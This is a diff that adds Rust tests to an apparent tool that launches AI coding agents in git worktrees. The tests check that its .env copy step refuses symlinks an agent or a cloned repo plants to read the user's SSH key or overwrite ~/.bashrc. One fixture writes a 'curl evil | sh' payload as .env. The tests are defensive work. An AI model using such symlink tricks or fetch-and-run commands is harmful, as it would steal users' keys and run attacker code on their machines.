@@ -297,3 +297,137 @@ fn a_hostile_config_attributes_and_hooks_start_nothing() {
 fn a_hooks_path_the_agent_set_starts_nothing() {
     nothing_runs(true);
 }
+
+/// A temp HOME with a fake key and a fake `.bashrc`.
+fn fake_home(env: &Env) -> PathBuf {
+    let home = env.projects.path().join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
+    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    home
+}
+
+/// The line that names a refused `worktree.copy` entry.
+fn refused_line(out: &str) -> &str {
+    out.lines()
+        .find(|l| l.contains("worktree.copy: .env not copied"))
+        .unwrap_or_else(|| panic!("no line names the refused .env:\n{out}"))
+}
+
+#[test]
+fn copy_does_not_read_a_symlinked_env_into_the_worktree() {
+    let host = Host::new("[worktree]\ncopy = [\".env\", \"ok.txt\"]\n");
+    let home = fake_home(&host.env);
+    let name = host.env.unique("cpa");
+    let repo = repo(&host.env, &name);
+    // The agent, in the project, makes `.env` a link to the user's key.
+    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), repo.join(".env")).unwrap();
+    std::fs::write(repo.join("ok.txt"), "copied\n").unwrap();
+    let out = host.run(
+        &repo,
+        &[
+            "start",
+            "--mode",
+            "claude",
+            "--detach",
+            "--runtime",
+            "host",
+            "-w",
+            "x",
+        ],
+    );
+    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
+    let wt = repo.with_file_name(format!("{name}.worktrees")).join("x");
+    assert!(
+        std::fs::symlink_metadata(wt.join(".env")).is_err(),
+        "nothing made at .env in the worktree"
+    );
+    assert_eq!(
+        std::fs::read_to_string(wt.join("ok.txt")).unwrap(),
+        "copied\n"
+    );
+    refused_line(&stderr(&out));
+    host.ok(
+        &repo,
+        &["rm", "--force", "--worktree", &format!("{name}-x-claude")],
+    );
+}
+
+#[test]
+fn copy_does_not_write_through_a_committed_symlink() {
+    let host = Host::new("[worktree]\ncopy = [\".env\"]\n");
+    let home = fake_home(&host.env);
+    let name = host.env.unique("cpb");
+    let repo = repo(&host.env, &name);
+    // The agent commits `.env -> ~/.bashrc` on a branch …
+    git(&repo, &["checkout", "-q", "-b", "evil"]);
+    std::os::unix::fs::symlink(home.join(".bashrc"), repo.join(".env")).unwrap();
+    git(&repo, &["add", ".env"]);
+    git(&repo, &["commit", "-q", "-m", "env"]);
+    git(&repo, &["checkout", "-q", "main"]);
+    // … and leaves a payload as the project's own `.env`.
+    std::fs::write(repo.join(".env"), "curl evil | sh\n").unwrap();
+    let out = host.run(
+        &repo,
+        &[
+            "start",
+            "--mode",
+            "claude",
+            "--detach",
+            "--runtime",
+            "host",
+            "-w",
+            "evil",
+        ],
+    );
+    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    refused_line(&stderr(&out));
+    host.ok(
+        &repo,
+        &[
+            "rm",
+            "--force",
+            "--worktree",
+            &format!("{name}-evil-claude"),
+        ],
+    );
+}
+
+#[test]
+fn copy_does_not_truncate_the_file_a_committed_symlink_names() {
+    let host = Host::new("[worktree]\ncopy = [\".env\"]\n");
+    let home = fake_home(&host.env);
+    let name = host.env.unique("cpc");
+    let repo = repo(&host.env, &name);
+    // A cloned repository ships `.env -> ~/.ssh/id_ed25519`.
+    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), repo.join(".env")).unwrap();
+    git(&repo, &["add", ".env"]);
+    git(&repo, &["commit", "-q", "-m", "env"]);
+    let out = host.run(
+        &repo,
+        &[
+            "start",
+            "--mode",
+            "claude",
+            "--detach",
+            "--runtime",
+            "host",
+            "-w",
+            "y",
+        ],
+    );
+    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap(),
+        "PRIVATE KEY\n"
+    );
+    refused_line(&stderr(&out));
+    host.ok(
+        &repo,
+        &["rm", "--force", "--worktree", &format!("{name}-y-claude")],
+    );
+}
